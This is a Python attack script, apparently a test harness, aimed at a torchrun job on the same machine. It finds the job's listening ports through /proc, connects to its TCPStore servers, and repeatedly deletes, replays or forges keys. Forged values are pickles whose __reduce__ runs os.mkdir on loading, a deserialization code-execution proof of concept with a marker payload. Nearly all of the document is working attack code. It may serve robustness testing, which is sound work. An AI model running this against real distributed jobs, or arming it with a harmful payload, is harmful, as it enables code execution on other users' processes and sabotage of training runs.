"""Another process on the machine of a job of torchrun, which meddles with every store that the
job's first process serves: it connects to its ports, lists keys, and forges, repeats or deletes
messages.

A script: its arguments are the process, the kind of attack, a folder that a pickle of its makes if
somebody loads it, and the seconds that it goes on. It writes the ports of the stores that it has
found to a file beside that folder.
"""

from __future__ import annotations

import os
import pickle
import re
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any

LISTENS = "0A"


class Payload:
    """Makes a file where it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (self.path,)


def listening(process: int) -> Iterator[tuple[str, int]]:
    """Addresses, in hexadecimal, and ports on which a process listens."""
    own = set()
    for opened in Path(f"/proc/{process}/fd").iterdir():
        with suppress(OSError):
            own.add(os.readlink(opened))
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{process}/net/{table}").read_text().splitlines()[1:]:
            _, local, _, state, *rest = line.split()
            if state == LISTENS and f"socket:[{rest[5]}]" in own:
                address, port = local.split(":")
                yield address, int(port, 16)


def store_at(port: int) -> Any:
    """A connection to the store on a port; raises an exception, or never returns, if there is
    none."""
    import torch.distributed as dist

    store = dist.TCPStore("127.0.0.1", port, None, False, timedelta(seconds=1), False)
    store.list_keys()
    return store


def next_name(key: str) -> str:
    """The key with its last number one larger."""
    return re.sub(r"\d+(?=\D*$)", lambda found: str(int(found[0]) + 1), key)


def attack(store: Any, kind: str, payload: bytes) -> None:
    """One round."""
    for key in store.list_keys():
        if kind == "delete":
            store.delete_key(key)
        elif kind == "forge":
            store.set(key, payload)
            store.set(next_name(key), payload)
        else:
            found = store.compare_set(key, "?", "?")
            if found != b"?":
                store.set(next_name(key), found)
    if kind == "forge":
        store.set(f"log/{store.add('log', 1)}", payload)


def main(process: int, kind: str, path: str, seconds: float) -> None:
    payload = pickle.dumps(Payload(path))

    def meddle(port: int) -> None:
        with suppress(Exception):  # no store, or the job has ended
            store = store_at(port)
            with Path(f"{path}.stores").open("a") as found:
                found.write(f"{port}\n")
            while True:
                attack(store, kind, payload)
                time.sleep(0.002)

    for _, port in listening(process):
        threading.Thread(target=meddle, args=(port,), daemon=True).start()
    until = time.monotonic() + seconds
    while time.monotonic() < until and Path(f"/proc/{process}").exists():
        time.sleep(0.1)
    os._exit(0)  # threads may wait in torch for what is no store


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4]))
